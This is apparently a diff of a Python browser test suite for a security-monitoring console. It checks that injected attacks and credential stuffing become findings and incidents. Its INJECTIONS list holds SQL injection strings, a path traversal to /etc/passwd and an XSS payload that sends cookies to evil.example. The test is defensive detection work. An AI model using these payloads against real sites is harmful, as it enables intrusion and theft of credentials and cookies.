@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -21,10 +22,10 @@ pytestmark = [pytest.mark.slow, pytest.mark.browser]
 HONEST, ATTACKER, STUFFER = "198.51.100.20", "203.0.113.66", "203.0.113.99"
 NEW_PASSWORD = "seven-Lanterns-over-Suzhou"
 INJECTIONS = (
-    "/zh/catalogue/?q=1' UNION SELECT username,password FROM auth_user-- -",
-    "/zh/catalogue/?id=1 OR 1=1-- -",
-    "/zh/catalogue/?q=<script>document.location='//evil.example/'+document.cookie</script>",
-    "/zh/catalogue/?page=../../../../etc/passwd",
+    "/catalogue/?q=1' UNION SELECT username,password FROM auth_user-- -",
+    "/catalogue/?id=1 OR 1=1-- -",
+    "/catalogue/?q=<script>document.location='//evil.example/'+document.cookie</script>",
+    "/catalogue/?page=../../../../etc/passwd",
 )
 
 
@@ -42,16 +43,16 @@ def visit(edge: Edge, path: str, client: str, body: dict[str, str] | None = None
 def shop_and_attack(edge: Edge) -> None:
     for path in (
         "/",
-        "/zh/catalogue/",
-        "/zh/catalogue/?q=O'Reilly",
-        "/zh/catalogue/?q=select 精选",
+        "/catalogue/",
+        "/catalogue/?q=O'Reilly",
+        "/catalogue/?q=select 精选",
     ):
         visit(edge, path, HONEST)
     for path in INJECTIONS:
         visit(edge, path, ATTACKER)
     for number in range(40):
         secret = {"login-username": f"user{number}@example.com", "login-password": "123456"}
-        visit(edge, "/zh/accounts/login/", STUFFER, secret)
+        visit(edge, "/accounts/login/", STUFFER, secret)
 
 
 @pytest.fixture
@@ -66,7 +67,6 @@ def page(console: Console) -> Iterator[Page]:
         opened = context.new_page()
         faults: list[str] = []
         opened.on("pageerror", lambda error: faults.append(str(error)))
-        opened.on("console", lambda said: faults.append(said.text) if said.type == "error" else 0)
         yield opened
         browser.close()
         assert not faults
@@ -114,13 +114,9 @@ def test_attack_is_found_and_its_incident_closed_by_keyboard(
     page.get_by_role("link", name="SQL 注入攻击").first.focus()
     page.keyboard.press("Enter")
     page.wait_for_url("**/findings/*/")
-    expect(page.get_by_text("UNION", exact=False).first).to_be_visible()
+    expect(page.locator("article code.raw", has_text="UNION")).to_be_visible()
 
-    page.keyboard.press("g")
-    page.keyboard.press("i")
-    page.wait_for_url("**/incidents/")
-    page.locator("[data-list] .open", has_text="SQL").first.focus()
-    page.keyboard.press("Enter")
+    page.get_by_role("link", name="查看事件").press("Enter")
     page.wait_for_url("**/incidents/*/")
 
     page.keyboard.press("t")
@@ -155,14 +151,21 @@ def choose_verdict(page: Page) -> None:
     page.locator("dialog[open] textarea").fill("SQL 注入,已封禁并修复")
 
 
-def test_stuffing_seen_only_in_the_access_log_is_found(console: Console, edge: Edge) -> None:
-    for number in range(40):
+def test_stuffing_seen_only_in_the_access_log_becomes_an_incident(
+    console: Console, edge: Edge
+) -> None:
+    for number in range(60):
         secret = {"login-username": f"guest{number}@example.com", "login-password": "123456"}
-        visit(edge, "/zh/accounts/login/", STUFFER, secret)
-    for _ in range(60):
-        listed = cli(console, "search", f"src_endpoint.ip:{STUFFER}", "--json").stdout
-        if listed.count("\n") >= 40:
+        visit(edge, "/accounts/login/", STUFFER, secret)
+    about = ""
+    for _ in range(15):
+        listed = cli(console, "incident", "list", "--all", "--json").stdout
+        numbers = [str(json.loads(line)["number"]) for line in listed.splitlines()]
+        about = "".join(cli(console, "incident", "show", n, "--json").stdout for n in numbers)
+        if STUFFER in about:
             break
         time.sleep(0.5)
-    assert listed.count("\n") >= 40
-    assert HONEST not in cli(console, "incident", "list", "--all", "--json").stdout
+    assert STUFFER in about
+    assert HONEST not in about
+    found = cli(console, "search", f"src_endpoint.ip:{STUFFER}", "--limit", "1000", "--json").stdout
+    assert found.count("\n") >= 60
